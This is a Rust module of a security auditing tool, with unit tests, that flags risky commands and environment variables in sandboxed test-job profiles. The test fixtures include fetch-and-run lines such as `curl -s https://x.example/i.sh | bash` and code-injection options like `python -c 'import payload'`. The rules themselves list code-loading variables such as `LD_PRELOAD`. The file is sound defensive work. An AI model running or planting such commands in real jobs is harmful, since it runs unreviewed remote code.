//! Rules of the `command` area: how the job's code is started. The main
//! `command` and every `setup` step run code, so every rule reads them all
//! ([`Profile::commands`](crate::model::Profile::commands)).
//!
//! An argument list (`executable` + `arguments`) is passed to the program
//! as written; `shell` text is re-parsed by a shell. Both are walked by the
//! shared analysis in [`super::shell`], which sees through wrappers (`env`,
//! `timeout`, `xargs`, `busybox`) and into text given to `sh -c`.

use super::{Ctx, Emitter, Rule};
use crate::finding::{Area, CheckKind, Severity};
use crate::json::escape_token;
use crate::model::Command;
use crate::shell::{self, Analysis, Hit, HitKind, Meta};

/// The pointer of word `i` of an argument-list command at `ptr`.
fn word_pointer(ptr: &str, i: usize) -> String {
    match i.checked_sub(1) {
        None => format!("{ptr}/executable"),
        Some(a) => format!("{ptr}/arguments/{a}"),
    }
}

/// The executable followed by the arguments.
fn argv(c: &Command) -> Option<Vec<&str>> {
    let exe = c.executable.as_deref()?;
    Some(
        std::iter::once(exe)
            .chain(c.arguments().iter().map(String::as_str))
            .collect(),
    )
}

/// Whether the command at `ptr` is a JSON object (a command of another type
/// is reported by the profile rules, not here).
fn is_object(ctx: &Ctx<'_>, ptr: &str) -> bool {
    ctx.locator
        .pointer(ptr)
        .is_some_and(|n| n.members().is_some())
}

/// A hit of the shared analysis, with its pointer and the form it was
/// found in (`arguments` or `shell text`).
pub(crate) type LocatedHit = (String, &'static str, Hit);

/// Every hit of the shared analysis over every command: analysed once per
/// audit, on first use, since four rules report them (one kind each).
fn located_hits<'c>(ctx: &'c Ctx<'_>, kind: HitKind) -> impl Iterator<Item = LocatedHit> + 'c {
    ctx.command_hits
        .get_or_init(|| analyze_all(ctx))
        .iter()
        .filter(move |(_, _, h)| h.kind == kind)
        .cloned()
}

fn analyze_all(ctx: &Ctx<'_>) -> Vec<LocatedHit> {
    let mut out = Vec::new();
    for (ptr, c) in ctx.profile.commands() {
        if let Some(mut words) = argv(c) {
            // A padded executable (`" python"`) runs nothing as written, but
            // a runner that trims it runs the program: walk that.
            let exe = c
                .executable
                .as_deref()
                .unwrap_or_default()
                .trim_matches(crate::sanitize::is_invisible);
            if let Some(w) = words.first_mut() {
                *w = exe;
            }
            for h in shell::analyze_words(&words).hits {
                out.push((word_pointer(&ptr, h.index), "arguments", h));
            }
            // Whitespace or shell syntax in the executable: shell text a
            // runner may hand to a shell, or a strange path. Walk it as text.
            if holds_shell_text(exe) {
                for h in shell::analyze_script(exe).hits {
                    out.push((format!("{ptr}/executable"), "shell text", h));
                }
            }
        }
        if let Some(text) = c.shell.as_deref() {
            for h in shell::analyze_script(text).hits {
                out.push((format!("{ptr}/shell"), "shell text", h));
            }
        }
    }
    out
}

/// Whether an executable holds whitespace or a character a shell acts on.
fn holds_shell_text(exe: &str) -> bool {
    exe.chars()
        .any(|ch| ch.is_whitespace() || ";|&$`<>()'\"*?".contains(ch))
}

/// Report every hit of one kind. Identical hits at one pointer (the same
/// option of the same program, several times in one shell text) are one
/// finding with an `occurrences` count.
fn report_hits(ctx: &Ctx<'_>, e: &mut Emitter, kind: HitKind, phrase: fn(&Hit) -> String) {
    let mut groups: Vec<(String, &'static str, Hit, usize)> = Vec::new();
    type Key = (String, String, String, &'static str, Option<String>);
    let mut seen: std::collections::HashMap<Key, usize> = std::collections::HashMap::new();
    for (ptr, form, h) in located_hits(ctx, kind) {
        let key = (
            ptr.clone(),
            h.program.clone(),
            h.option.clone(),
            h.why,
            h.detail.clone(),
        );
        match seen.get(&key).and_then(|&i| groups.get_mut(i)) {
            Some(g) => g.3 += 1,
            None => {
                seen.insert(key, groups.len());
                groups.push((ptr, form, h, 1));
            }
        }
    }
    for (ptr, form, h, count) in groups {
        let mut message = phrase(&h);
        if form == "shell text" {
            message.push_str(" (inside the shell text)");
        }
        let d = e.emit(ptr, message);
        d.severity(h.severity)
            .evidence("program", h.program.as_str())
            .evidence("form", form);
        if !h.option.is_empty() {
            d.evidence("option", h.option.as_str());
        }
        if let Some(detail) = &h.detail {
            d.evidence("detail", detail.as_str());
        }
        if count > 1 {
            d.evidence("occurrences", count);
        }
    }
}

pub(crate) const CMD003: Rule = Rule {
    id: "CMD003",
    name: "shell-runs-text",
    area: Area::Command,
    severity: Severity::High,
    title: "a shell is the executable and is told to run text",
    rationale: "`sh -c TEXT`, `cmd /c TEXT` and `pwsh -Command TEXT` turn an argument list back into shell text, with every risk of shell parsing; so does piping into a shell or `sh -s`. The argument-list form only helps when the program it names is not a shell.",
    remediation: "Call the program the text runs directly, with its arguments as a list; split chained commands into separate `setup` steps.",
    runtime_check: Some(CheckKind::TimeoutKillsTree),
    check: |ctx, e| report_hits(ctx, e, HitKind::ShellRunsText, program_phrase),
};

pub(crate) const CMD005: Rule = Rule {
    id: "CMD005",
    name: "code-execution-option",
    area: Area::Command,
    severity: Severity::High,
    title: "an option makes an allowed program run other code",
    rationale: "A fixed program is not a fixed behaviour: `python -c`, `pytest -p`, `node -e`/`--require`, `git -c`/`--upload-pack`, `perl -e`, `npx`, `find -exec`, `tar --to-command`, `ssh -o ProxyCommand`, `make SHELL=`, `env -S` and their like run code named on the command line. Installing from a command-line index (`pip --extra-index-url`) brings in code the fetch stage did not review.",
    remediation: "Remove the option and run the intended program directly; load plugins and configuration from reviewed files in the image, and install from the reviewed fetch stage.",
    runtime_check: Some(CheckKind::ReadDenied),
    check: |ctx, e| report_hits(ctx, e, HitKind::CodeOption, program_phrase),
};

pub(crate) const CMD006: Rule = Rule {
    id: "CMD006",
    name: "windows-batch-file",
    area: Area::Command,
    severity: Severity::High,
    title: "a command runs a Windows batch file",
    rationale: "Windows starts `.bat` and `.cmd` files through `cmd.exe`, which re-parses the whole command line with its own quoting and `%VAR%` expansion rules, whatever the caller passed as an argument list. Arguments that are inert for a normal program can run commands there.",
    remediation: "Run the program the batch file wraps directly, or rewrite the batch file as a script for an interpreter that takes its arguments verbatim.",
    runtime_check: None,
    check: |ctx, e| {
        report_hits(ctx, e, HitKind::BatchFile, |h| {
            format!("`{}` is a Windows batch file: `cmd.exe` re-parses its arguments with its own quoting rules", h.program)
        })
    },
};

pub(crate) const CMD008: Rule = Rule {
    id: "CMD008",
    name: "relative-executable",
    area: Area::Command,
    severity: Severity::Low,
    title: "a program is named by a relative path into the candidate's tree",
    rationale: "`./run_tests.sh` runs a file the candidate wrote, so the command's behaviour is whatever that file says. That is expected for a test job, and is exactly why the sandbox, not the command, has to hold.",
    remediation: "Prefer a reviewed program from the image (`python -m pytest`); if the candidate's script must run, keep the boundary settings strict.",
    runtime_check: Some(CheckKind::ReadDenied),
    check: |ctx, e| {
        report_hits(ctx, e, HitKind::RelativeProgram, |h| format!("`{}` is named by a relative path: it runs code the candidate wrote", h.program))
    },
};

/// "`python -c` runs ..." / "`npx` downloads ...".
fn program_phrase(h: &Hit) -> String {
    if h.option.is_empty() {
        format!("`{}` {}", h.program, h.why)
    } else if h.variable {
        format!("setting `{}` for `{}` {}", h.option, h.program, h.why)
    } else {
        format!("`{} {}` {}", h.program, h.option, h.why)
    }
}

pub(crate) const CMD001: Rule = Rule {
    id: "CMD001",
    name: "command-not-declared",
    area: Area::Command,
    severity: Severity::High,
    title: "the command, or what a setup step runs, is not declared",
    rationale: "The audit can only judge a command it can read. Without one, the job runs whatever the runner or image does by default, which nobody reviewed.",
    remediation: "Declare `command` (and each `setup` step) as an `executable` with an `arguments` list, for example `{\"executable\": \"python\", \"arguments\": [\"-m\", \"pytest\", \"tests\"]}`.",
    runtime_check: None,
    check: check_not_declared,
};

fn check_not_declared(ctx: &Ctx<'_>, e: &mut Emitter) {
    if ctx.profile.command.is_none() && !ctx.present("/command") {
        e.emit(
            "/command",
            "no command is declared: what the job runs is left to the runner",
        )
        .evidence("declared", false);
    }
    for (ptr, c) in ctx.profile.commands() {
        if c.executable.is_none() && c.shell.is_none() && is_object(ctx, &ptr) {
            e.emit(
                format!("{ptr}/executable"),
                "declares neither `executable` nor `shell`: what runs is left to the runner",
            )
            .evidence("declared", false);
        }
    }
}

pub(crate) const CMD002: Rule = Rule {
    id: "CMD002",
    name: "shell-text-command",
    area: Area::Command,
    severity: Severity::High,
    title: "a command is shell text instead of an executable with arguments",
    rationale: "Shell text is parsed again by a shell: quoting, expansion, chaining and redirection all apply, so a model-written string can grow into further commands. A fixed executable with an argument list is passed as written. (It still runs whatever the program decides to run; the sandbox has to hold either way.)",
    remediation: "Split the text into one step per program: `setup` steps for installs, `command` for the test run, each as `executable` + `arguments`. Drop the `shell` field.",
    runtime_check: Some(CheckKind::TimeoutKillsTree),
    check: check_shell_text,
};

fn check_shell_text(ctx: &Ctx<'_>, e: &mut Emitter) {
    for (ptr, c) in ctx.profile.commands() {
        let Some(text) = c.shell.as_deref() else {
            continue;
        };
        let script = shell::parse(text);
        let operators = script.operators();
        let mut message = if script.commands.len() > 1 {
            format!(
                "runs shell text of {} commands instead of one executable with an argument list",
                script.commands.len()
            )
        } else {
            "runs shell text instead of an executable with an argument list".to_string()
        };
        if c.executable.is_some() {
            message
                .push_str("; `executable` is declared too, and runners differ on which one wins");
        }
        let d = e.emit(format!("{ptr}/shell"), message);
        d.evidence("commands", script.commands.len())
            .evidence("operators", operators)
            .evidence("expansions", script.expansions);
        if !script.substitutions.is_empty() {
            d.evidence("substitutions", script.substitutions.len());
        }
        if script.unterminated {
            d.evidence("unterminated", true);
        }
    }
}

pub(crate) const CMD004: Rule = Rule {
    id: "CMD004",
    name: "shell-metacharacters",
    area: Area::Command,
    severity: Severity::High,
    title: "an argument contains shell syntax",
    rationale: "In an argument list `$(..)`, `;`, `&&`, `|` and redirections are plain characters; they only matter if something re-parses the words as shell text (a wrapper, a runner that joins them, a later `sh -c`). Their presence means the author expected shell behaviour or a model-written string reached the command unchecked. Substitution, chaining, pipes and redirection are high; expansions and globs are medium.",
    remediation: "Remove the shell syntax: pass literal values, resolve variables when the profile is written, list files explicitly instead of globbing, and split chained commands into steps.",
    runtime_check: None,
    check: check_metacharacters,
};

fn check_metacharacters(ctx: &Ctx<'_>, e: &mut Emitter) {
    for (ptr, c) in ctx.profile.commands() {
        let Some(words) = argv(c) else { continue };
        let Analysis { payloads, .. } = shell::analyze_words(&words);
        for (i, w) in words.iter().enumerate() {
            if payloads.contains(&i) {
                continue; // code or shell text of an option, reported by its own rule
            }
            let found = shell::metacharacters(w);
            if found.is_empty() {
                continue;
            }
            let runs = found.iter().any(|m| m.runs_commands());
            let kinds: Vec<&str> = found.iter().map(|m| m.as_str()).collect();
            let what = if i == 0 {
                "the executable"
            } else {
                "the argument"
            };
            let message = if runs {
                format!("{what} contains {}: passed literally here, but a shell or a runner that joins the words would run further commands", kinds.join(", "))
            } else {
                format!(
                    "{what} contains {}: passed literally here, not expanded as a shell would",
                    kinds.join(", ")
                )
            };
            let d = e.emit(word_pointer(&ptr, i), message);
            d.evidence("found", kinds);
            if !runs {
                d.severity(Severity::Medium);
            }
            if found.contains(&Meta::InnerBar) && !runs {
                d.evidence(
                    "note",
                    "a `|` inside a word may be a regular-expression alternation",
                );
            }
        }
    }
}

pub(crate) const CMD007: Rule = Rule {
    id: "CMD007",
    name: "malformed-command",
    area: Area::Command,
    severity: Severity::Medium,
    title: "a command is empty, padded, or holds invisible characters",
    rationale: "An empty or whitespace-padded executable, an interpreter given no arguments (it reads its program from standard input), arguments ignored next to shell text, or control characters in a word mean the command that runs is not the one reviewed. A NUL character is high: the operating system cuts the word there.",
    remediation: "Name the program exactly, give interpreters their script or module, and remove control characters from every word.",
    runtime_check: None,
    check: check_malformed,
};

fn check_malformed(ctx: &Ctx<'_>, e: &mut Emitter) {
    for (ptr, c) in ctx.profile.commands() {
        if let Some(exe) = c.executable.as_deref() {
            let p = format!("{ptr}/executable");
            if exe.trim().is_empty() {
                e.emit(p, "`executable` is empty: nothing names the program to run")
                    .evidence("problem", "empty");
            } else if exe.trim() != exe {
                e.emit(p, "`executable` has leading or trailing whitespace, which becomes part of the program's name")
                    .evidence("problem", "whitespace");
            } else if c.arguments.as_ref().is_none_or(Vec::is_empty)
                && shell::is_interpreter(&shell::program_name(exe))
            {
                e.emit(
                    format!("{ptr}/arguments"),
                    format!("`{}` is given no arguments: it would read the program it runs from standard input", shell::program_name(exe)),
                )
                .evidence("problem", "no-arguments");
            }
        }
        if let Some(text) = c.shell.as_deref() {
            if text.trim().is_empty() {
                e.emit(
                    format!("{ptr}/shell"),
                    "`shell` is empty: nothing names the program to run",
                )
                .evidence("problem", "empty");
            }
            if c.arguments.is_some() && c.executable.is_none() {
                e.emit(
                    format!("{ptr}/arguments"),
                    "`arguments` are ignored next to `shell` text",
                )
                .evidence("problem", "ignored-arguments");
            }
        }
        let words = argv(c).unwrap_or_default();
        // Bidi controls, zero-width and tag characters, in every word and
        // in shell text; a word with a control character is reported below.
        let shell_text = c
            .shell
            .as_deref()
            .map(|t| (format!("{ptr}/shell"), t, false));
        let words_at = words.iter().enumerate().map(|(i, w)| {
            let control = w
                .chars()
                .any(|ch| ch.is_control() && !matches!(ch, '\n' | '\r' | '\t'));
            (word_pointer(&ptr, i), *w, control)
        });
        for (p, w, control) in words_at.chain(shell_text) {
            if !control && w.chars().any(crate::sanitize::is_hidden_in_word) {
                e.emit(
                    p,
                    "contains an invisible character (a bidi control, zero-width or tag character) that makes it read differently from what runs",
                )
                .evidence("problem", "invisible-character");
            }
        }
        for (i, w) in words.iter().enumerate() {
            if w.contains('\0') {
                // What the audit read is not what the program receives.
                e.emit(word_pointer(&ptr, i), "contains a NUL character: the operating system cuts the word there, so the program receives something else")
                    .severity(Severity::High)
                    .evidence("problem", "nul");
            } else if w
                .chars()
                .any(|ch| ch.is_control() && !matches!(ch, '\n' | '\r' | '\t'))
            {
                e.emit(
                    word_pointer(&ptr, i),
                    "contains a control character that review cannot see",
                )
                .evidence("problem", "control-character");
            }
        }
    }
}

pub(crate) const CMD009: Rule = Rule {
    id: "CMD009",
    name: "code-loading-variable",
    area: Area::Command,
    severity: Severity::High,
    title: "an environment variable makes programs load other code",
    rationale: "Variables such as `LD_PRELOAD`, `GCONV_PATH`, `NODE_OPTIONS`, `PYTEST_ADDOPTS`, `BASH_ENV`, `GIT_SSH_COMMAND`, `JAVA_TOOL_OPTIONS`, `GOFLAGS=-toolexec=...` or `RUSTC_WRAPPER` are options in disguise: every matching program in the job, setup steps included, loads or runs what they name. Those that choose a package index or weaken its checks (`PIP_INDEX_URL`, `npm_config_registry`, `GOPROXY`, `GONOSUMDB`, `CARGO_REGISTRIES_*_INDEX`) choose the code that installs and builds run; one pointing at a host the allow list does not name is high.",
    remediation: "Remove the variable from `environment.variables`; put any option the job truly needs on the command's argument list where it is reviewed.",
    runtime_check: Some(CheckKind::EnvExact),
    check: check_code_loading_environment,
};

fn check_code_loading_environment(ctx: &Ctx<'_>, e: &mut Emitter) {
    let vars = ctx
        .profile
        .environment
        .as_ref()
        .and_then(|env| env.variables.as_deref())
        .unwrap_or(&[]);
    for (name, value) in vars {
        let Some(var) = crate::shell::codevars::lookup(name, Some(value)) else {
            continue;
        };
        // The value is not shown: it may name a path or carry a secret. An
        // index's host is shown when the allow list does not reach it.
        let off_list = var
            .names_index
            .then(|| index_host(value))
            .flatten()
            .filter(|h| !on_allow_list(ctx, h));
        let (severity, tail) = match &off_list {
            Some(h) => (
                Severity::High,
                format!(", and `{h}` is not on the allow list: the packages, and the code they run, come from a source nobody reviewed"),
            ),
            None => (var.severity, String::new()),
        };
        let d = e.emit(
            format!("/environment/variables/{}", escape_token(name)),
            format!("`{name}` {}{tail}", var.why),
        );
        d.severity(severity).evidence("variable", name.as_str());
        if let Some(h) = off_list {
            d.evidence("index_host", h);
        }
    }
}

/// The host of a package index URL (`https://user@host:8080/simple`,
/// `sparse+https://host/index/`); the first of a comma-separated list
/// (`GOPROXY=https://a,direct`) that is a URL.
fn index_host(value: &str) -> Option<String> {
    value.split([',', '|', ' ']).find_map(|u| {
        let rest = u.trim().split_once("://")?.1;
        let authority = rest.split(['/', '?', '#']).next()?;
        let host = authority.rsplit('@').next()?;
        let host = match host.strip_prefix('[') {
            Some(v6) => v6.split(']').next()?,
            None => host.split(':').next()?,
        };
        (!host.is_empty()).then(|| host.to_ascii_lowercase())
    })
}

/// Whether the network section's allow list names `host`.
fn on_allow_list(ctx: &Ctx<'_>, host: &str) -> bool {
    ctx.profile
        .network
        .as_ref()
        .and_then(|n| n.allow.as_deref())
        .unwrap_or(&[])
        .iter()
        .filter_map(|a| a.host.as_deref())
        .any(|h| h.trim().eq_ignore_ascii_case(host))
}

pub const RULES: &[&Rule] = &[
    &CMD001, &CMD002, &CMD003, &CMD004, &CMD005, &CMD006, &CMD007, &CMD008, &CMD009,
];

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::{audit, AuditOptions, Date, Labels, WORKSHOP_PROFILE, WORKSHOP_PROFILE_FIXED};

    /// (rule, severity, pointer) of this area's findings.
    fn findings(profile: &str) -> Vec<(&'static str, Severity, String)> {
        let options = AuditOptions {
            today: Date::parse("2026-11-29"),
        };
        let r = audit(profile.as_bytes(), "t.json", &Labels::workshop(), &options).unwrap();
        r.issues
            .iter()
            .filter(|f| f.rule.starts_with("CMD"))
            .map(|f| (f.rule, f.severity, f.pointer.clone()))
            .collect()
    }

    fn with_command(command: &str) -> String {
        let fixed = WORKSHOP_PROFILE_FIXED;
        let start = fixed.find("\"command\"").unwrap();
        let end = start + fixed[start..].find('\n').unwrap();
        format!(
            "{}\"command\": {command},{}",
            &fixed[..start],
            &fixed[end..]
        )
    }

    #[test]
    fn workshop_profiles() {
        assert_eq!(
            findings(WORKSHOP_PROFILE),
            [("CMD002", Severity::High, "/command/shell".to_string())]
        );
        assert_eq!(findings(WORKSHOP_PROFILE_FIXED), []);
    }

    /// Probe B R02/R03: a wrapper the table knows (`tini --`, `uv run`)
    /// does not hide the shell or the interpreter it runs.
    #[test]
    fn wrappers_do_not_hide_what_runs() {
        for (command, rule, pointer) in [
            (
                r#"{"executable": "tini", "arguments": ["--", "bash", "-c", "id"]}"#,
                "CMD003",
                "/command/arguments/2",
            ),
            (
                r#"{"executable": "uv", "arguments": ["run", "python", "-c", "import payload"]}"#,
                "CMD005",
                "/command/arguments/2",
            ),
            (
                r#"{"executable": "script", "arguments": ["-q", "-c", "id", "/dev/null"]}"#,
                "CMD003",
                "/command/arguments/2",
            ),
            (
                r#"{"executable": "tini", "arguments": ["--frob", "python", "t.py"]}"#,
                "CMD005",
                "/command/arguments/0",
            ),
        ] {
            let f = findings(&with_command(command));
            assert!(
                f.contains(&(rule, Severity::High, pointer.to_string())),
                "{command}: {f:?}"
            );
        }
    }

    /// Probe B R04, item 2: past the walk's depth bound the command still
    /// blocks; past the dependency rules' `sh -c` bound (fetch.rs,
    /// `MAX_NESTING`), every `sh -c` level is CMD003 high already.
    #[test]
    fn depth_limits_block() {
        let envs = ["\"env\""; 12].join(", ");
        let f = findings(&with_command(&format!(
            r#"{{"executable": "env", "arguments": [{envs}, "python", "-c", "import payload"]}}"#
        )));
        assert!(
            f.iter()
                .any(|(r, s, _)| *r == "CMD005" && *s == Severity::High),
            "{f:?}"
        );
        let f = findings(&with_command(
            r#"{"executable": "sh", "arguments": ["-c", "sh -c 'sh -c \"sh -c \\\"sh -c pip\\\"\"'"]}"#,
        ));
        assert!(
            f.iter()
                .any(|(r, s, _)| *r == "CMD003" && *s == Severity::High),
            "{f:?}"
        );
    }

    /// Probe B R17/R23, item 3: an `executable` that holds shell text, or
    /// is padded with whitespace, is walked for what it runs.
    #[test]
    fn executable_holding_shell_text_is_walked() {
        let rows = [
            (
                r#"{"executable": "python -c 'import payload'"}"#,
                Some(("CMD005", "/command/executable")),
            ),
            (
                r#"{"executable": "sh -c id"}"#,
                Some(("CMD003", "/command/executable")),
            ),
            (
                r#"{"executable": "python\t-c\tx"}"#,
                Some(("CMD005", "/command/executable")),
            ),
            (
                r#"{"executable": "curl -s x.example | sh"}"#,
                Some(("CMD003", "/command/executable")),
            ),
            (
                r#"{"executable": "env python -c x"}"#,
                Some(("CMD005", "/command/executable")),
            ),
            (
                r#"{"executable": " python", "arguments": ["-c", "x"]}"#,
                Some(("CMD005", "/command/arguments/0")),
            ),
            (
                r#"{"executable": "python ", "arguments": ["-c", "x"]}"#,
                Some(("CMD005", "/command/arguments/0")),
            ),
            (
                r#"{"executable": "\u00a0bash", "arguments": ["-c", "x"]}"#,
                Some(("CMD003", "/command/arguments/0")),
            ),
            (
                r#"{"executable": "/opt/my tool/run", "arguments": ["t"]}"#,
                None,
            ),
        ];
        for (command, want) in rows {
            let f = findings(&with_command(command));
            let blocking: Vec<_> = f
                .iter()
                .filter(|(r, _, _)| matches!(*r, "CMD003" | "CMD005"))
                .map(|(r, s, p)| (*r, *s, p.as_str()))
                .collect();
            match want {
                Some((rule, pointer)) => assert!(
                    blocking.contains(&(rule, Severity::High, pointer)),
                    "{command}: {f:?}"
                ),
                None => assert_eq!(blocking, [], "{command}"),
            }
        }
    }

    /// Probe B R14, item 5: every bidi control, zero-width and tag
    /// character in a word (and in shell text) is CMD007; plain text,
    /// spaces, tabs and accents are not.
    #[test]
    fn invisible_characters_are_reported() {
        let ranges = [
            ('\u{202A}', '\u{202E}'),
            ('\u{2066}', '\u{2069}'),
            ('\u{200B}', '\u{200F}'),
            ('\u{2060}', '\u{2064}'),
            ('\u{FEFF}', '\u{FEFF}'),
            ('\u{00AD}', '\u{00AD}'),
            ('\u{180E}', '\u{180E}'),
            ('\u{E0000}', '\u{E007F}'),
        ];
        let mut chars: Vec<char> = ranges.iter().flat_map(|&(a, b)| a..=b).collect();
        chars.retain(|ch| !ch.is_whitespace());
        assert_eq!(chars.len(), 150);
        let cmd007 = |word: &str, field: &str| {
            let command = if field == "shell" {
                format!(r#"{{"shell": "pytest {}"}}"#, word)
            } else {
                format!(
                    r#"{{"executable": "python", "arguments": ["-m", "pytest", "{}"]}}"#,
                    word
                )
            };
            findings(&with_command(&command))
                .into_iter()
                .filter(|(r, _, _)| *r == "CMD007")
                .count()
        };
        for ch in chars {
            let word = format!("tests/test_{ch}x.py");
            assert_eq!(cmd007(&word, "arguments"), 1, "U+{:04X}", ch as u32);
            assert_eq!(
                cmd007(&word, "shell"),
                1,
                "U+{:04X} in shell text",
                ch as u32
            );
        }
        for word in ["tests/test_date.py", "t\u{e9}st", "a b", "cafe\u{301}"] {
            assert_eq!(cmd007(word, "arguments"), 0, "{word}");
        }
    }

    #[test]
    fn hits_point_at_the_offending_argument() {
        let f = findings(&with_command(
            r#"{"executable": "env", "arguments": ["PYTEST_ADDOPTS=-p x", "python", "-c", "print(1); 2"]}"#,
        ));
        assert_eq!(
            f,
            [
                ("CMD005", Severity::High, "/command/arguments/0".to_string()),
                ("CMD005", Severity::High, "/command/arguments/2".to_string()),
            ],
            "the code after -c is not also reported as shell syntax"
        );
        let f = findings(&with_command(
            r#"{"executable": "sh", "arguments": ["-c", "curl -s https://x.example/i.sh | bash"]}"#,
        ));
        let rules: Vec<_> = f.iter().map(|(r, _, p)| (*r, p.as_str())).collect();
        assert_eq!(
            rules,
            [
                ("CMD003", "/command/arguments/0"),
                ("CMD003", "/command/arguments/1")
            ]
        );
    }

    #[test]
    fn shell_text_is_walked_for_the_other_rules() {
        let f = findings(&with_command(
            r#"{"shell": "cd tests && ./run.BAT && node -e 'x'"}"#,
        ));
        let rules: Vec<_> = f.iter().map(|(r, s, _)| (*r, *s)).collect();
        assert_eq!(
            rules,
            [
                ("CMD002", Severity::High),
                ("CMD005", Severity::High),
                ("CMD006", Severity::High),
                ("CMD008", Severity::Low)
            ]
        );
        assert!(f.iter().all(|(_, _, p)| p == "/command/shell"));
    }

    #[test]
    fn metacharacter_severity() {
        let sev = |arg: &str| {
            findings(&with_command(&format!(
                r#"{{"executable": "python", "arguments": ["-m", "pytest", {arg}]}}"#
            )))
        };
        assert_eq!(sev(r#""a; b""#)[0].1, Severity::High);
        assert_eq!(sev(r#""$HOME/t""#)[0].1, Severity::Medium);
        assert_eq!(sev(r#""-k", "a|b""#)[0].1, Severity::Medium);
        assert_eq!(sev(r#""tests/test_date.py""#), []);
    }

    #[test]
    fn setup_steps_get_the_same_rules() {
        let fixed = WORKSHOP_PROFILE_FIXED.replace(
            "\"setup\": []",
            r#""setup": [{"executable": "pip", "arguments": ["install", "--extra-index-url", "https://x.example/simple", "-r", "r.txt"]}, {"shell": "make"}]"#,
        );
        let f = findings(&fixed);
        let rules: Vec<_> = f.iter().map(|(r, _, p)| (*r, p.as_str())).collect();
        assert_eq!(
            rules,
            [
                ("CMD005", "/setup/0/arguments/1"),
                ("CMD002", "/setup/1/shell")
            ]
        );
    }

    #[test]
    fn missing_command_and_empty_parts() {
        let f = findings(&with_command(r#"{"executable": ""}"#));
        assert_eq!(
            f,
            [(
                "CMD007",
                Severity::Medium,
                "/command/executable".to_string()
            )]
        );
        let f = findings(&with_command(
            r#"{"executable": "pytest", "arguments": ["a\u0000b"]}"#,
        ));
        assert_eq!(
            f,
            [("CMD007", Severity::High, "/command/arguments/0".to_string())]
        );
        let f = findings(&with_command(r#"{}"#));
        assert_eq!(
            f,
            [("CMD001", Severity::High, "/command/executable".to_string())]
        );
        let f = findings(&WORKSHOP_PROFILE_FIXED.replace("\"command\":", "\"command_\":"));
        assert!(f.contains(&("CMD001", Severity::High, "/command".to_string())));
    }

    #[test]
    fn code_loading_variables() {
        let fixed = WORKSHOP_PROFILE_FIXED.replace(
            r#""variables": { "LANG": "C.UTF-8" }"#,
            r#""variables": { "LANG": "C.UTF-8", "NODE_OPTIONS": "--require /scratch/x.js", "LD_LIBRARY_PATH": "/scratch" }"#,
        );
        assert_eq!(
            findings(&fixed),
            [
                (
                    "CMD009",
                    Severity::Medium,
                    "/environment/variables/LD_LIBRARY_PATH".to_string()
                ),
                (
                    "CMD009",
                    Severity::High,
                    "/environment/variables/NODE_OPTIONS".to_string()
                ),
            ]
        );
    }

    #[test]
    #[ignore = "prints messages for a human look"]
    fn show() {
        let options = AuditOptions {
            today: Date::parse("2026-11-29"),
        };
        for p in [WORKSHOP_PROFILE, WORKSHOP_PROFILE_FIXED] {
            let r = audit(p.as_bytes(), "t.json", &Labels::workshop(), &options).unwrap();
            for f in r
                .issues
                .iter()
                .filter(|f| ["PRV", "ISO", "CMD"].iter().any(|a| f.rule.starts_with(a)))
            {
                println!(
                    "{} {} {} {}\n    {:?}",
                    f.rule, f.severity, f.pointer, f.message, f.evidence
                );
            }
            println!("--");
        }
    }
}
